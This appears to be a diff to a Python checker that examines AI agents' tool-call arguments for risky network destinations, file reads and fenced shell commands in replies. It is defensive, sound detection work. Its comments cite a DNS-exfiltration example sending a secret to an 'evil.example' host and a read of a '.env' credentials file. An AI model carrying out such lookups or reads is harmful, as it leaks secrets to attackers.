@@ -39,15 +39,29 @@ class PlainValue:
     recursive: bool = False
 
 
-#: Keys that name or describe a thing (``upload_image(name="logo.png")``): never a host.
+#: Keys that name or describe a thing (``upload_image(name="logo.png")``): never a host,
+#: but for the actions that look a name up (``dns_lookup(name="<secret>.evil.example")``).
 _LABEL_KEYS = frozenset({"name", "title", "label", "caption", "alt", "description", "filename"})
+_NAME_LOOKUP_WORDS = frozenset({"dns", "nslookup", "dig", "whois", "traceroute", "resolve"})
+
+
+#: Key endings that name a network destination (avatar_url, callbackUri, smtp_hostname).
+_URL_KEY_ENDINGS = ("url", "uri", "endpoint", "hostname", "host", "webhook")
+
+
+def _file_name(key: str, canonical: str, words: frozenset[str]) -> bool:
+    """``read_file {"name": ".env"}``: a bare name under a file action names a file."""
+    return key == "name" and bool(words & _FILE_WORDS) and "." in canonical and " " not in canonical
+
+
+_FILE_WORDS = frozenset({"file", "files", "fs", "path", "document", "attachment", "blob"})
 
 
 def _destination(value: PlainValue, scope: Scope, cwd: str) -> None:
     canonical, text, key, words = value.canonical, value.text, value.key, value.words
-    if key in URL_KEYS and not looks_like_path(canonical):
+    if (key in URL_KEYS or key.endswith(_URL_KEY_ENDINGS)) and not looks_like_path(canonical):
         judge_url(scope, canonical.strip(), text, cwd)
-    elif key in PATH_KEYS or looks_like_path(canonical):
+    elif key in PATH_KEYS or looks_like_path(canonical) or _file_name(key, canonical, words):
         role = _path_role(value)
         path = canonical.strip()
         judge_path(scope, role, path, text, cwd, glob=has_glob(path))
@@ -55,7 +69,7 @@ def _destination(value: PlainValue, scope: Scope, cwd: str) -> None:
         words & NETWORK_WORDS
         and "." in canonical
         and " " not in canonical.strip()
-        and key not in _LABEL_KEYS
+        and (key not in _LABEL_KEYS or bool(words & _NAME_LOOKUP_WORDS))
     ):
         judge_url(scope, canonical.strip(), text, cwd)
 
@@ -114,3 +128,24 @@ def judge_plain(
         scope.prose = True
         judge_shell(canonical_text(text, fold=False), scope, job)
         scope.prose = False
+    if not documentation and value.key in _REPLY_KEYS and "```" in canonical:
+        for block in _shell_fences(canonical_text(text, fold=False), max_shell):
+            judge_shell(block, scope, job)
+
+
+_SHELL_FENCES = frozenset({"", "bash", "sh", "shell", "zsh", "console", "terminal", "sh-session"})
+#: Keys holding a model's own reply, which a harness may scan for fenced commands to run (a
+#: message to a person may quote commands for that person to run).
+_REPLY_KEYS = frozenset({"reply", "response", "completion", "answer", "assistant", "output_text"})
+
+
+def _shell_fences(text: str, max_shell: int) -> list[str]:
+    """Shell code in a reply's fenced blocks (```bash … ```), prompts (``$ ``) removed: a
+    harness that runs the agent's fenced commands runs these."""
+    blocks = []
+    for code in text.split("```")[1:16:2]:
+        language, _, body = code.partition("\n")
+        if language.strip().lower() in _SHELL_FENCES and len(body) <= max_shell:
+            lines = (line.strip().removeprefix("$ ") for line in body.splitlines())
+            blocks.append("\n".join(lines))
+    return blocks
